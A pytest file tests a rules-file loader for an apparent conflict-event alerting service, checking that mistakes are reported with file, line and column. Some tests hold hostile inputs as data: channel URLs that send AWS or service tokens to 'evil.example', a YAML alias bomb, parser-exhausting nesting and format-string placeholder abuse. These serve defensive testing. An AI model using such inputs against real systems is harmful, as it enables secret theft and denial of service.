"""Rules files: the shipped one loads; each kind of mistake is reported as FILE:LINE:COL: path: message."""

import pytest

from stream.core.rules.load import load_rules
from stream.core.rules.schema import ControlChange, Spike, Threshold, WindowSum
from stream.errors import RulesError
from tests.conftest import DEFAULT_RULES


def problems(text: str, env: dict[str, str] | None = None) -> list[str]:
    with pytest.raises(RulesError) as caught:
        load_rules(text, "r.yaml", env)
    return caught.value.problems


def test_the_shipped_rules_load() -> None:
    rules = load_rules(DEFAULT_RULES.read_text(), str(DEFAULT_RULES))
    kinds = {type(rule) for rule in rules.rules}
    assert kinds == {ControlChange, Threshold, WindowSum}
    displacement = next(r for r in rules.rules if isinstance(r, Threshold))
    assert (displacement.field, displacement.threshold) == ("displaced", 10_000)


def test_misspelt_key_suggests_the_right_one() -> None:
    text = "rules:\n  - id: a\n    kind: threshold\n    title: t\n    field: killed\n    treshold: 5\n"
    assert problems(text) == [
        "r.yaml:2:5: rules[0].threshold: missing required option 'threshold'",
        "r.yaml:6:5: rules[0].treshold: unknown key 'treshold'; did you mean 'threshold'?",
    ]


def test_unknown_kind() -> None:
    text = "rules:\n  - id: a\n    kind: windowsum\n    title: t\n"
    assert problems(text) == [
        "r.yaml:3:5: rules[0].kind: unknown kind 'windowsum'; did you mean 'window_sum'? "
        "(kinds: control_change, threshold, window_sum, window_count, spike)"]



def test_an_event_kind_the_extractor_does_not_report_is_unknown() -> None:
    text = "rules:\n  - {id: a, kind: window_count, title: t, threshold: 2, match: {type: [clash, casualty]}}\n"
    kinds = "(kinds: territory_seized, casualties, displacement, airstrike)"
    assert problems(text) == [f"r.yaml:2:72: rules[0].match.type[0]: unknown kind of event 'clash' {kinds}",
                              f"r.yaml:2:79: rules[0].match.type[1]: unknown kind of event 'casualty'; "
                              f"did you mean 'casualties'? {kinds}"]

def test_wrong_type() -> None:
    text = "rules:\n  - id: a\n    kind: threshold\n    title: t\n    field: killed\n    threshold: ten\n"
    assert problems(text) == [
        "r.yaml:6:5: rules[0].threshold: Input should be a valid integer, unable to parse string as an integer, "
        "got 'ten'"]


def test_unknown_channel() -> None:
    text = ("channels:\n  desk: 'json://localhost/x'\nrules:\n"
            "  - {id: a, kind: control_change, title: t, channels: [dsk]}\n")
    assert problems(text) == ["r.yaml:4:56: rules[0].channels[0]: unknown channel 'dsk'; did you mean 'desk'?"]


def test_bad_yaml_syntax() -> None:
    assert problems("rules:\n  - id: a\n   kind: x\n") == [
        "r.yaml:3:4: YAML syntax: expected <block end>, but found '<block mapping start>'"]


def test_unset_environment_variable_in_a_channel() -> None:
    text = "channels:\n  tg: 'tgram://${SIGNALFIRE_TG_TOKEN}/123'\nrules: []\n"
    assert problems(text, {}) == [
        "r.yaml:2:3: channels.tg: environment variable SIGNALFIRE_TG_TOKEN is not set; export it or remove the "
        "channel"]
    rules = load_rules(text, "r.yaml", {"SIGNALFIRE_TG_TOKEN": "abc"})
    assert rules.channels == {"tg": "tgram://abc/123"}


def test_a_rules_file_reads_only_the_variables_it_is_allowed() -> None:
    text = "channels:\n  leak: 'json://evil.example/${AWS_SECRET_ACCESS_KEY}'\nrules: []\n"
    env = {"AWS_SECRET_ACCESS_KEY": "s3cr3t"}
    assert problems(text, env) == [
        "r.yaml:2:3: channels.leak: ${AWS_SECRET_ACCESS_KEY} is not a variable a rules file may read: name it "
        "SIGNALFIRE_..., or list it in SIGNALFIRE_RULES_ENV where the service starts"]
    allowed = load_rules(text, "r.yaml", {**env, "SIGNALFIRE_RULES_ENV": "OTHER, AWS_SECRET_ACCESS_KEY"})
    assert allowed.channels == {"leak": "json://evil.example/s3cr3t"}


def test_a_yaml_alias_bomb_is_refused_at_once() -> None:
    import time
    lines = ['a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    lines += [f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]" for i in range(8)]
    started = time.perf_counter()
    found = problems("\n".join(lines) + "\n")
    assert time.perf_counter() - started < 1
    assert len(found) == 10 and found[0] == ("r.yaml:2:8: YAML alias *a: anchors and aliases are not accepted in a "
                                             "rules file; write the value out")


@pytest.mark.parametrize(("text", "where"), [
    ("rules: " + "{" * 13 + "x" + "}" * 13 + "\n", "1:9"),  # seconds of the YAML library's hashing, key in key
    ("rules: [{[a, b]: 1}]\n", "1:10"),
    ("? [a, b]\n: 1\n", "1:3"),
])
def test_a_mapping_or_list_used_as_a_key_is_refused_before_it_is_built(text: str, where: str) -> None:
    assert problems(text) == [f"r.yaml:{where}: (file): a mapping or list used as a key; a rules file's keys are "
                              "words: write the key as one"]


def test_an_impossible_date_is_refused_with_its_line() -> None:
    text = "rules: []\nsilences:\n  - rule: x\n    until: 2024-02-30\n"
    assert problems(text) == ["r.yaml:4:12: 2024-02-30 is not a date (day is out of range for month); write a real "
                              "day as YYYY-MM-DD"]


def test_a_rules_file_over_a_mebibyte_is_refused() -> None:
    assert problems("# " + "x" * (1 << 20) + "\nrules: []\n")[0].startswith(
        "r.yaml:1:1: (file): 1,048,589 bytes; a rules file holds 1,048,576 at most")


def test_unknown_title_placeholder_and_bad_window() -> None:
    text = ("rules:\n  - id: a\n    kind: window_sum\n    title: '{plaec}'\n    field: killed\n"
            "    threshold: 3\n    window: 6h\n")
    assert problems(text) == [
        "r.yaml:4:5: rules[0].title: unknown placeholder {plaec}; did you mean {place}?",
        "r.yaml:7:5: rules[0].window: windows are whole days of event time: write '1d' or more",
    ]


def test_rule_version_changes_with_its_definition() -> None:
    base = "rules:\n  - {id: a, kind: threshold, title: t, field: displaced, threshold: %d}\n"
    assert load_rules(base % 10).rules[0].version != load_rules(base % 11).rules[0].version
    assert load_rules(base % 10).rules[0].version == load_rules(base % 10).rules[0].version


def test_missing_required_option() -> None:
    text = "rules:\n  - id: a\n    kind: spike\n    title: t\n"
    assert problems(text) == ["r.yaml:2:5: rules[0].floor: missing required option 'floor'"]


def test_every_problem_is_reported_at_once() -> None:
    text = ("rules:\n  - id: a\n    kind: threshold\n    title: t\n    field: killed\n    threshold: -1\n"
            "  - id: b\n    kind: window_count\n    title: t\n    threshhold: 3\n")
    assert problems(text) == [
        "r.yaml:6:5: rules[0].threshold: Input should be greater than or equal to 1, got -1",
        "r.yaml:7:5: rules[1].threshold: missing required option 'threshold'",
        "r.yaml:10:5: rules[1].threshhold: unknown key 'threshhold'; did you mean 'threshold'?",
    ]


def test_silences_are_checked_against_rules_and_fields() -> None:
    base = "rules:\n  - {id: seized, kind: control_change, title: t}\nsilences:\n"
    assert problems(base + "  - {rule: seized, until: 2024-01-01, match: {town: Kawlin}}\n") == [
        "r.yaml:4:39: silences[0].match: cannot match on town; use admin1, country, key, place, severity"]
    assert problems(base + "  - {rule: seize, until: 2024-01-01}\n") == [
        "r.yaml:4:6: silences[0].rule: no rule 'seize'; did you mean 'seized'?"]
    assert problems(base + "  - {rule: seized, untill: 2024-01-01}\n") == [
        "r.yaml:4:5: silences[0].until: missing required option 'until'",
        "r.yaml:4:20: silences[0].untill: unknown key 'untill'; did you mean 'until'?"]


def test_duplicate_rule_ids() -> None:
    text = "rules:\n  - {id: a, kind: control_change, title: t}\n  - {id: a, kind: control_change, title: u}\n"
    assert problems(text) == ["r.yaml:3:6: rules[1].id: 'a' is already the id of rules[0]; ids must be unique"]


def test_registry_covers_every_kind() -> None:
    from stream.core.detect import DETECTORS
    from stream.core.rules.load import KINDS
    assert set(DETECTORS) == set(KINDS)


def test_the_commented_examples_in_the_shipped_rules_are_valid() -> None:
    text = DEFAULT_RULES.read_text()
    marker = text.index("  # More kinds")
    examples, silences_part = text[marker:text.index("silences: []")], text[text.index("silences: []"):]
    uncommented = text[:marker] + "\n".join(
        line.replace("  # ", "  ", 1) if line.startswith("  # ") and not line.startswith("  # More") else line
        for line in examples.splitlines())
    silences = "silences:\n" + "\n".join(line[1:] for line in silences_part.splitlines()[1:] if line.startswith("#"))
    rules = load_rules(uncommented + "\n" + silences + "\n", str(DEFAULT_RULES))
    assert [r.kind for r in rules.rules] == ["control_change", "window_sum", "threshold", "window_count", "spike"]
    assert [s.rule for s in rules.silences] == ["deaths-per-region-day"]


@pytest.mark.parametrize("title", ["{value:d} killed", "{admin1[40]}", "{admin1:>50000000}", "{place!r}",
                                   "{place.name}", "killed {", "{}"])
def test_titles_take_only_plain_placeholders(title: str) -> None:
    text = f"rules:\n  - id: a\n    kind: threshold\n    title: '{title}'\n    field: killed\n    threshold: 3\n"
    [problem] = problems(text)
    assert problem.startswith("r.yaml:4:5: rules[0].title: ") and "placeholder" in problem


def test_a_title_renders_by_substitution_with_literal_braces() -> None:
    from stream.core.detect.base import render
    rule = load_rules("rules:\n  - {id: a, kind: threshold, title: '{{{value}}} in {place} ({admin1})', field: killed,"
                      " threshold: 3}\n").rules[0]
    assert render(rule, {"value": 12000, "place": "Kawlin", "admin1": None}) == "{12,000} in Kawlin (?)"


@pytest.mark.parametrize("variable", ["SIGNALFIRE_TOKEN", "SIGNALFIRE_BROKER", "SIGNALFIRE_RULES_ENV"])
def test_a_channel_cannot_read_signalfires_own_settings(variable: str) -> None:
    # SIGNALFIRE_TOKEN passed as SIGNALFIRE_...: 'rules check' accepted it, and the API token went to the URL.
    text = f"channels:\n  leak: 'json://evil.example/${{{variable}}}'\nrules: []\n"
    env = {variable: "s3cr3t", "SIGNALFIRE_RULES_ENV": variable}  # even listed, it stays Signalfire's own
    assert problems(text, env) == [
        f"r.yaml:2:3: channels.leak: ${{{variable}}} is one of Signalfire's own settings, not a channel's secret: "
        "give the channel a variable of its own (SIGNALFIRE_<CHANNEL>_..., or one listed in SIGNALFIRE_RULES_ENV)"]


def test_every_setting_signalfire_reads_is_kept_from_the_channels() -> None:
    import re

    from stream.core.rules.load import OWN_SETTINGS
    from tests.conftest import ROOT

    read = {name for path in (ROOT / "stream").rglob("*") if path.suffix in {".py", ".html", ".js"}
            for name in re.findall(r"\bSIGNALFIRE_[A-Z_]+\b", path.read_text(encoding="utf-8"))}
    assert read <= OWN_SETTINGS, sorted(read - OWN_SETTINGS)


@pytest.mark.parametrize(("text", "where"), [
    ("rules: " + "[" * 20_000 + "]" * 20_000 + "\n", "1:24"),  # 68 s to refuse, on the service's event loop
    ("rules: [\n" + "  [\n" * 3_000 + "  ]\n" * 3_000 + "]\n", "17:3"),
    ("rules: " + "{a: " * 5_000 + "1" + "}" * 5_000 + "\n", "1:72"),
    ("rules:\n" + "- " * 5_000 + "x\n", "2:31"),
    ("rules:\n" + "".join(" " * i + f"k{i}:\n" for i in range(1, 1_000)) + "\n", "17:17"),
])
def test_nesting_deeper_than_a_rules_file_needs_is_refused_before_it_is_parsed(text: str, where: str) -> None:
    import time

    started = time.perf_counter()
    found = problems(text)
    assert time.perf_counter() - started < 0.5
    assert found == [f"r.yaml:{where}: (file): nested more than 16 levels deep; a rules file needs a few (a rule, "
                     "its match, a list in it): write the value out flatter"]


def test_quoted_brackets_and_comments_are_not_nesting() -> None:
    text = ("# [[[[[[[[[[[[[[[[[[[[[[\nrules:\n  - {id: a, kind: control_change, title: '[[[[[[[[[[[[[[[[[[[ {place}',"
            " summary: \"{{{{{{{{{{{{{{{{{{{{ \\\" [[[[[[[[[[[[[[[[[[[[\"}  # ]]]] [[[[[[[[[[[[[[[[[[[[\n"
            "  - id: b\n    kind: control_change\n    title: don't [[[[[[[[[[[[[[[[[[[[ stop\n")
    rules = load_rules(text, "r.yaml")
    assert [rule.title for rule in rules.rules] == ["[[[[[[[[[[[[[[[[[[[ {place}", "don't [[[[[[[[[[[[[[[[[[[[ stop"]


@pytest.mark.parametrize(("option", "value", "message"), [
    ("window", "999999999d", "'999999999d' is longer than ten years: write 3650d or less"),
    ("window", "99999999999999999999w", "'99999999999999999999w' is longer than ten years: write 3650d or less"),
    ("realert", "5000w", "'5000w' is longer than ten years: write 3650d or less"),
    ("window", "1" * 5_000 + "d", f"'{'1' * 5_000}d' is longer than ten years: write 3650d or less"),
])
def test_a_duration_longer_than_ten_years_is_refused_at_load(option: str, value: str, message: str) -> None:
    # 'window: 999999999d' passed the check and failed the run with 'date value out of range'.
    text = (f"rules:\n  - id: a\n    kind: window_sum\n    title: t\n    field: killed\n    threshold: 3\n"
            f"    {option}: {value}\n")
    assert problems(text) == [f"r.yaml:7:5: rules[0].{option}: {message}"]


def test_a_spike_cannot_look_back_further_than_ten_years() -> None:
    text = ("rules:\n  - id: s\n    kind: spike\n    title: t\n    field: killed\n    floor: 5\n"
            "    window: 36500d\n    baseline_windows: 365\n")
    assert problems(text) == ["r.yaml:7:5: rules[0].window: '36500d' is longer than ten years: write 3650d or less"]
    text = text.replace("36500d", "30d")
    assert problems(text) == [
        "r.yaml:8:5: rules[0].baseline_windows: 365 windows of 30 days and the window itself reach back 10,980 "
        "days, more than ten years (3,650): ask for fewer windows, or shorter ones"]
    [spike] = load_rules(text.replace("365", "120")).rules
    assert isinstance(spike, Spike) and spike.baseline_windows == 120  # 3,630 days


def test_a_digest_wait_longer_than_ten_years_is_refused() -> None:
    assert problems("digest:\n  group_wait: 99999999999d\nrules: []\n") == [
        "r.yaml:2:3: digest.group_wait: '99999999999d' is longer than ten years: write 3650d or less"]
